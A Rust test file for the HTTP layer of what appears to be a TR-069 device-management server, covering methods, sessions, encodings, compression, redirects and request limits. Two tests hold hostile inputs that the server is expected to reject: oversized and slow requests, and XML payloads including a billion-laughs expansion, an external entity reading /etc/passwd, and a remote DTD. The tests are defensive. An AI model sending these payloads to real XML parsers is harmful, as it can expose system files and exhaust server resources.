//! HTTP: rows T.

use std::io::Write;

use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};

use crate::kit::{Answer, Certificates, Connection, Device, Inform, Server, Setup, TlsClient, parameter};

const CODE: &str = "Device.DeviceInfo.ProvisioningCode";

#[test]
fn t1_only_post_is_served() {
    let server = Server::start();
    for method in ["GET", "PUT", "HEAD", "OPTIONS", "DELETE", "PROPFIND"] {
        let mut connection = Connection::open(server.cwmp());
        connection.write(format!("{method} /acs HTTP/1.1\r\nHost: acs\r\nContent-Length: 0\r\n\r\n"));
        // A HEAD's answer has no body, whatever its length says.
        let all = connection.closed();
        let text = String::from_utf8(all).unwrap();
        assert!(text.starts_with("HTTP/1.1 405 "), "{method}: {text}");
        assert!(text.contains("Allow: POST\r\n"), "{method}: {text}");
    }
}

#[test]
fn t2_one_connection_carries_a_whole_session_and_bodies_have_a_length() {
    let server = Setup::default().reading(&[CODE]).start();
    let mut device = server.device("T2");
    device.inform(&["2 PERIODIC"], &[(CODE, "a")]).expect("InformResponse");
    device.empty().expect_end();
    let informed = device.inform(&["2 PERIODIC"], &[]).expect("InformResponse");
    let request = device.empty().expect("GetParameterValues");
    for answer in [&informed, &request] {
        assert_eq!(answer.header("Content-Length"), Some(answer.body.len().to_string().as_str()));
        assert_eq!(answer.header("Transfer-Encoding"), None);
        assert!(!answer.closes());
    }
    let end = device.answer_values(&request, &[parameter(CODE, "b")]).expect_end();
    assert!(!end.closes());
    device.begin().expect("GetParameterValues");
}

#[test]
fn t3_http_1_0_is_served_and_the_cookie_carries_the_session() {
    let server = Setup::default().reading(&[CODE]).start();
    let mut device = server.device("T3");
    device.inform(&["2 PERIODIC"], &[(CODE, "a")]).expect("InformResponse");
    device.empty().expect_end();
    let as_1_0 = |request: Vec<u8>| String::from_utf8(request).unwrap().replacen("HTTP/1.1", "HTTP/1.0", 1);
    let inform = Inform::of("T3").envelope("1");
    device.reconnect();
    device.connection.write(as_1_0(device.request("", inform.as_bytes())));
    device.receive().expect("InformResponse");
    assert_eq!(device.connection.closed(), b"");

    device.reconnect();
    device.connection.write(as_1_0(device.request("Connection: keep-alive\r\n", b"")));
    let request = device.receive().expect("GetParameterValues");
    // The same connection.
    let end = device.answer_values(&request, &[parameter(CODE, "kept")]);
    end.expect_end();
    assert_eq!(server.value(&device.id(), CODE), "kept");
}

#[test]
fn t4_chunked_requests_are_read_and_trailers_ignored() {
    let server = Server::start();
    let mut device = server.device("T4");
    let inform = Inform::of("T4").envelope("1");
    let (first, rest) = inform.split_at(100);
    let body = format!(
        "{:x}\r\n{first}\r\n{:X};extension=1\r\n{rest}\r\n0\r\nX-Trailer: session=1\r\n\r\n",
        first.len(),
        rest.len()
    );
    device.connection.write(format!("POST /acs HTTP/1.1\r\nHost: acs\r\nTransfer-Encoding: chunked\r\n\r\n{body}"));
    device.receive().expect("InformResponse");
    let cookie = device.cookie.clone().unwrap();
    let empty =
        format!("POST /acs HTTP/1.1\r\nHost: acs\r\nCookie: {cookie}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n");
    device.connection.send(empty).expect_end();
}

#[test]
fn t5_no_bytes_no_framing_and_blanks_are_the_empty_message() {
    let server = Server::start();
    let mut device = server.device("T5");
    for body in [
        "Content-Length: 0\r\n\r\n",
        "\r\n",
        "Content-Length: 6\r\n\r\n \r\n\t\r\n",
        "Content-Length: 3\r\n\r\n\u{feff}",
    ] {
        device.inform(&["2 PERIODIC"], &[]).expect("InformResponse");
        let cookie = device.cookie.clone().unwrap();
        device.connection.write(format!("POST /acs HTTP/1.1\r\nHost: acs\r\nCookie: {cookie}\r\n{body}"));
        device.receive().expect_status(204);
    }
}

#[test]
fn t6_the_body_decides_and_not_its_content_type() {
    let server = Server::start();
    let text = "Größe €";
    let inform = |serial: &str, declaration: &str| {
        format!("{declaration}{}", Inform::of(serial).parameter(CODE, text).envelope("1"))
    };
    let latin = |text: String| -> Vec<u8> { text.replace('€', "?").chars().map(|c| c as u32 as u8).collect() };
    let wide = |text: String| -> Vec<u8> {
        [0xFEFF].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
    };
    let latin_text = text.replace('€', "?");
    let cases: [(&str, Vec<u8>, &str); 9] = [
        ("", inform("T60", "").into_bytes(), text),
        ("Content-Type: application/xml\r\n", inform("T61", "").into_bytes(), text),
        ("Content-Type: text/plain\r\n", inform("T62", "").into_bytes(), text),
        ("Content-Type: text/xml; encoding=utf-8\r\n", inform("T63", "").into_bytes(), text),
        ("Content-Type:\r\n", inform("T64", "").into_bytes(), text),
        ("Content-Type: text/xml; charset=\"UTF8\"\r\n", inform("T65", "").into_bytes(), text),
        ("", latin(inform("T66", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>")), &latin_text),
        ("Content-Type: text/xml; charset=iso-8859-1\r\n", latin(inform("T67", "")), &latin_text),
        ("", wide(inform("T68", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>")), text),
    ];
    for (index, (headers, body, expected)) in cases.into_iter().enumerate() {
        let mut device = server.device(&format!("T6{index}"));
        device.post_with(headers, &body).expect("InformResponse");
        device.empty().expect_end();
        assert_eq!(server.value(&device.id(), CODE), expected, "{headers:?}, case {index}");
    }
    let unknown = inform("T69", "<?xml version=\"1.0\" encoding=\"EBCDIC-XY\"?>");
    server.device("T69").post(&unknown).expect_status(400);
    assert!(server.stored("0A1B2C-Box-T69").is_null());
}

#[test]
fn t7_soap_action_is_ignored() {
    let server = Server::start();
    for action in [
        "",
        "SOAPAction:\r\n",
        "SOAPAction: \"\"\r\n",
        "SOAPAction: cwmp:Inform\r\n",
        "SOAPAction: \"urn:wrong#Reboot\"\r\n",
    ] {
        let mut device = server.device("T7");
        let inform = Inform::of("T7").envelope("1");
        device.post_with(action, inform.as_bytes()).expect("InformResponse");
        device.post_with(action, b"").expect_end();
    }
}

#[test]
fn t8_a_byte_order_mark_and_blanks_before_the_document_are_skipped() {
    let server = Server::start();
    let inform = Inform::of("T8").envelope("1");
    let declaration = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
    for before in [
        "\u{feff}",
        "\u{feff}<?xml version=\"1.0\"?>",
        " \r\n",
        "\n\n\t ",
        &format!(" \r\n{declaration}\r\n"),
        declaration,
    ] {
        let mut device = server.device("T8");
        device.post(&format!("{before}{inform}")).expect("InformResponse");
        device.empty().expect_end();
    }
}

#[test]
fn t9_expect_100_continue_is_answered_at_once() {
    let server = Server::start();
    let mut device = server.device("T9");
    let inform = Inform::of("T9").envelope("1");
    let length = inform.len();
    let head = format!("POST /acs HTTP/1.1\r\nHost: acs\r\nExpect: 100-continue\r\nContent-Length: {length}\r\n\r\n");
    // The device sends its body only after this.
    device.connection.send(head).expect_status(100);
    device.connection.write(inform);
    device.receive().expect("InformResponse");
    device.empty().expect_end();
}

#[test]
fn t10_compressed_requests_are_read_and_answers_plain_unless_the_request_was_not() {
    let server = Server::start();
    let inform = Inform::of("T10").envelope("1");
    let mut device = server.device("T10");
    let plain = device.post_with("Accept-Encoding: gzip, deflate\r\n", inform.as_bytes()).expect("InformResponse");
    assert_eq!(plain.header("Content-Encoding"), None);
    device.empty().expect_end();

    let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
    gzip.write_all(inform.as_bytes()).unwrap();
    let mut deflate = ZlibEncoder::new(Vec::new(), Compression::default());
    deflate.write_all(inform.as_bytes()).unwrap();
    for (name, body) in [("gzip", gzip.finish().unwrap()), ("deflate", deflate.finish().unwrap())] {
        let answer = device.post_with(&format!("Content-Encoding: {name}\r\n"), &body).expect_status(200);
        assert_eq!(answer.header("Content-Encoding"), Some(name));
        device.empty().expect_end();
    }
    let refusal = device.post_with("Content-Encoding: br\r\n", inform.as_bytes()).expect_status(415);
    assert!(refusal.text().contains("br"), "{}", refusal.text());
    device.reconnect();
    device.post_with("Content-Encoding: gzip\r\n", inform.as_bytes()).expect_status(400);
}

#[test]
fn t11_answers_say_what_they_are() {
    let server = Setup::default().reading(&[CODE]).start();
    let mut device = server.device("T11");
    device.inform(&["2 PERIODIC"], &[(CODE, "a")]).expect("InformResponse");
    device.empty().expect_end();
    let answers = [device.inform(&["2 PERIODIC"], &[]), device.call("<cwmp:Nonsense/>"), device.empty()];
    for answer in answers {
        assert_eq!(answer.header("Content-Type"), Some("text/xml; charset=\"utf-8\""), "{}", answer.head);
        assert_eq!(answer.header("SOAPAction"), None);
    }
}

#[test]
fn t12_soap_faults_have_the_configured_status() {
    let server = Server::start();
    let mut device = server.device("T12");
    device.inform(&["2 PERIODIC"], &[]).expect("InformResponse");
    assert_eq!(device.call("<cwmp:Nonsense/>").status, 200);

    let server = Setup::default().config("cwmp.faultStatus", "500").start();
    let mut device = server.device("T12");
    device.inform(&["2 PERIODIC"], &[]).expect("InformResponse");
    let refusal = device.call("<cwmp:Nonsense/>").expect_status(500);
    assert!(refusal.text().contains("<FaultCode>8000</FaultCode>"), "{}", refusal.text());
    assert!(!refusal.closes());
    // What begins no session, too.
    let no_version = "<cwmp:SupportedCWMPVersions>9.9</cwmp:SupportedCWMPVersions>";
    server.device("T12b").send_inform(&Inform::of("T12b").header(no_version)).expect_status(500);
    server.device("T12c").call("<cwmp:Inform/>").expect_status(500);
    device.empty().expect_end();
}

#[test]
fn t13_informs_are_redirected_to_the_configured_url() {
    let new = Setup::default().start();
    let elsewhere = format!("http://{}/acs", new.cwmp());
    let redirect = format!("CASE WHEN DeviceID.SerialNumber = 'T13' THEN '{elsewhere}' ELSE '' END");
    let old = Setup::default().config("cwmp.redirect", &redirect).start();

    let answer = old.device("T13").inform(&["2 PERIODIC"], &[]).expect_status(307);
    assert_eq!(answer.header("Location"), Some(elsewhere.as_str()));
    assert_eq!((answer.cookie(), answer.body.len()), (None, 0));
    assert!(old.stored("0A1B2C-Box-T13").is_null());
    old.device("T13stays").register();

    // A whole device follows.
    let mut device = old.simulated("T13", |_| {});
    old.session(&mut device, &["1 BOOT"]);
    assert_eq!(new.stored("0A1B2C-SimCPE-T13")["_deviceId"]["_SerialNumber"], "T13");
    assert!(old.stored("0A1B2C-SimCPE-T13").is_null());
}

#[test]
fn t14_pipelined_requests_are_answered_in_their_order() {
    let server = Setup::default().reading(&[CODE]).start();
    let mut device = server.device("T14");
    device.inform(&["2 PERIODIC"], &[(CODE, "a")]).expect("InformResponse");
    device.empty().expect_end();
    let inform = Inform::of("T14").envelope("first");
    device.cookie = None;
    let pipelined = [device.request("", inform.as_bytes()), device.request("", b"")].concat();
    device.connection.write(pipelined);
    assert_eq!(device.receive().expect("InformResponse").id(), "first");
    device.receive().expect("GetParameterValues");
}

#[test]
fn t15_under_overload_informs_are_told_when_to_come_again() {
    let server = Setup::default()
        .config_file("[limits]\nmax-sessions = 1\nretry-after-s = 20\nmax-retry-after-s = 20")
        .reading(&[CODE])
        .start();
    let mut running = server.device("T15");
    running.inform(&["2 PERIODIC"], &[(CODE, "a")]).expect("InformResponse");
    let mut refused = server.device("T15refused");
    let answer = refused.inform(&["0 BOOTSTRAP"], &[(CODE, "b")]).expect_status(503);
    let seconds: u64 = answer.header("Retry-After").unwrap().parse().unwrap();
    assert!((20..=30).contains(&seconds), "chance adds up to a half: {seconds}");
    assert_eq!((answer.cookie(), answer.closes()), (None, true));
    assert!(server.stored(&refused.id()).is_null());
    assert_eq!(server.get("/status")["cwmp"]["refused"], 1);

    // What runs goes on to its end, and then there is room.
    running.empty().expect_end();
    refused.reconnect();
    refused.inform(&["0 BOOTSTRAP"], &[(CODE, "b")]).expect("InformResponse");
    refused.empty().expect_end();
    assert_eq!(server.value(&refused.id(), CODE), "b");
}

/// A device in the middle of its session, with the request that it has to answer.
fn in_session(server: &Server) -> (Device, Answer) {
    let mut device = server.device("undisturbed");
    device.inform(&["2 PERIODIC"], &[(CODE, "a")]).expect("InformResponse");
    device.empty().expect_end();
    let request = device.begin().expect("GetParameterValues");
    (device, request)
}

#[test]
fn t16_malformed_large_and_slow_requests_are_refused_and_harm_nobody() {
    let server = Setup::default()
        .config_file("[limits]\nheader-time-s = 1\nbody-time-s = 1\nmax-body-bytes = 65536")
        .reading(&[CODE])
        .start();
    let (mut device, request) = in_session(&server);

    let post = |rest: &str| format!("POST /acs HTTP/1.1\r\nHost: acs\r\n{rest}");
    let large = "x".repeat(100_000);
    let refused = [
        ("no request line", "e>POST / HTTP/1.1\r\n\r\n".to_owned(), 400),
        ("TLS", "\u{16}\u{3}\u{1}\u{2}\u{0}\u{1}\r\n\r\n".to_owned(), 400),
        ("an unknown version", "POST / HTTP/9.9\r\n\r\n".to_owned(), 400),
        ("a length that is none", post("Content-Length: x\r\n\r\n"), 400),
        ("two lengths", post("Content-Length: 1\r\nContent-Length: 2\r\n\r\n"), 400),
        ("a chunk without a size", post("Transfer-Encoding: chunked\r\n\r\nzz\r\n"), 400),
        ("a large header", post(&format!("X: {large}\r\n\r\n")), 431),
        ("many headers", post(&format!("{}\r\n", "X: 1\r\n".repeat(200))), 431),
        ("a large body that is announced", post("Content-Length: 99999999999\r\n\r\n"), 413),
        ("a large body", post(&format!("Content-Length: {}\r\n\r\n{large}", large.len())), 413),
        ("a large chunk", post(&format!("Transfer-Encoding: chunked\r\n\r\n{:x}\r\n{large}", large.len())), 413),
        ("a slow body", post("Content-Length: 100\r\n\r\n<soap"), 408),
    ];
    for (what, bytes, status) in refused {
        let mut connection = Connection::open(server.cwmp());
        let answer = connection.send(bytes);
        assert_eq!(answer.status, status, "{what}");
        assert_eq!(connection.closed(), b"", "{what}");
    }
    let mut slow = Connection::open(server.cwmp());
    slow.write("POST /acs HTTP/1.1\r\nHos");
    assert_eq!(slow.closed(), b"", "there is no request yet to answer");

    device.answer_values(&request, &[parameter(CODE, "b")]).expect_end();
    assert_eq!(server.value(&device.id(), CODE), "b");
}

#[test]
fn t17_a_connection_that_says_nothing_is_closed_without_a_word() {
    let certificates = Certificates::new();
    let server = certificates.server(Setup::default());
    let encrypted = certificates.address(&server);
    for address in [server.cwmp(), encrypted] {
        for _ in 0..3 {
            let mut silent = Connection::open(address);
            silent.finish_writing();
            assert_eq!(silent.closed(), b"");
        }
    }
    assert_ne!(server.cwmp(), encrypted, "one is plain");
    server.device("T17").register();
    let mut over_tls = TlsClient::new(&certificates.path("ca.pem"), "1.3").connect(encrypted).unwrap();
    assert_eq!(over_tls.session("T17"), [200, 204]);
}

// What these take of memory is measured beside the codec: `cwmp/tests/soap_memory.rs`.
#[test]
fn t18_documents_that_attack_their_reader_are_refused() {
    let server = Setup::default().reading(&[CODE]).start();
    let (mut device, request) = in_session(&server);

    let inform = Inform::of("T18").envelope("1");
    let with_type = |declarations: &str, text: &str| {
        format!("<!DOCTYPE e [{declarations}]>{}", inform.replace(">ExampleCorp<", &format!(">{text}<")))
    };
    let laughs: String =
        (1..30).map(|number| format!("<!ENTITY l{number} \"{}\">", format!("&l{};", number - 1).repeat(10))).collect();
    let attributes: String = (0..200_000).map(|number| format!(" a{number}=\"\"")).collect();
    let namespaces: String = (0..200_000).map(|number| format!(" xmlns:n{number}=\"u\"")).collect();
    let count = 1_000_000;
    let within = |elements: &str| inform.replace("<MaxEnvelopes>", &format!("{elements}<MaxEnvelopes>"));
    let documents = [
        ("a document type", with_type("", "x")),
        ("entities that expand", with_type(&format!("<!ENTITY l0 \"ha\">{laughs}"), "&l29;")),
        ("a file as entity", with_type("<!ENTITY f SYSTEM \"file:///etc/passwd\">", "&f;")),
        ("a document type elsewhere", with_type("<!ENTITY % d SYSTEM \"http://192.0.2.1/d\"> %d;", "x")),
        ("an entity that nobody declares", inform.replace(">ExampleCorp<", ">&f;<")),
        ("elements in each other", "<a>".repeat(count)),
        ("elements in each other, closed", within(&format!("{}{}", "<a>".repeat(count), "</a>".repeat(count)))),
        ("elements without end", within(&"<a/>".repeat(count))),
        ("attributes", within(&format!("<a{attributes}/>"))),
        ("namespaces", within(&format!("<a{namespaces}/>"))),
    ];
    for (what, document) in documents {
        let mut attacker = server.device("T18");
        let answer = attacker.post(&document);
        assert_eq!(answer.status, 400, "{what}");
        assert!(answer.body.len() < 1_000, "{what}: it is not repeated");
        assert!(!answer.text().contains("root:"), "{what}");
    }
    assert!(server.stored("0A1B2C-Box-T18").is_null());
    device.answer_values(&request, &[parameter(CODE, "b")]).expect_end();
    server.device("T18").inform(&["2 PERIODIC"], &[]).expect("InformResponse");
}
